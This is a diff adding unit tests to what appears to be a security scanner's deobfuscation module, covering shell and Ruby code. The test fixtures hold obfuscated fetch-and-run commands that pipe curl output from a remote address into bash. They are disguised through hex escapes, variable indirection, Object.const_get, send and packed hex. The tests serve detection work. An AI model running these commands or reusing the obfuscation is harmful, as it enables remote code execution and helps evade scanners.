@@ -72,3 +72,28 @@ test('substituteNames puts literals back into concatenations of innocuous names'
   // a name used alone is left as it is
   assert.equal(substituteNames('print(a)', names), 'print(a)');
 });
+
+test('normaliseShell: bash indirection `${!ref}` and a value printed from escapes are words too', () => {
+  assert.deepEqual(
+    normaliseShell(["h=$(printf '\\x31\\x30\\x2e\\x30')", 'a=ba; b=sh; i="$a$b"', 'ref=i', 'eval "cu""rl -s http://$h/x | ${!ref}"'].join('\n')).at(-1),
+    'eval "cu""rl -s http://10.0/x | bash"',
+  );
+  // an indirection through a name that holds no plain word stays as written
+  assert.deepEqual(normaliseShell(['ref=$(date)', 'echo ${!ref}'].join('\n')).at(-1), 'echo ${!ref}');
+});
+
+test('foldRuby: word lists, symbols, packed hex, const_get and send fold into a plain call', async () => {
+  const { foldRuby } = await import('../../../../src/core/modules/sentinel/lib/normalise-ruby.ts');
+  const hexOf = (s: string) => Buffer.from(s).toString('hex');
+  const cmd = 'curl -s http://203.0.113.9/r | bash';
+  const lines = [
+    'k = Object.const_get(%w[Ker nel].join)',
+    'm = ["sys", "tem"].join.to_sym',
+    `c = ["${hexOf(cmd).slice(0, 20)}", "${hexOf(cmd).slice(20)}"].join`,
+    'k.send(m, [c].pack("H*"))',
+  ];
+  assert.equal(foldRuby(lines)[3], `Kernel.system('${cmd}')`);
+  // ordinary metaprogramming with no literal pieces stays as written
+  const plain = ['obj.send(method_name, *args)', 'list.join(", ")'];
+  assert.deepEqual(foldRuby(plain), plain);
+});
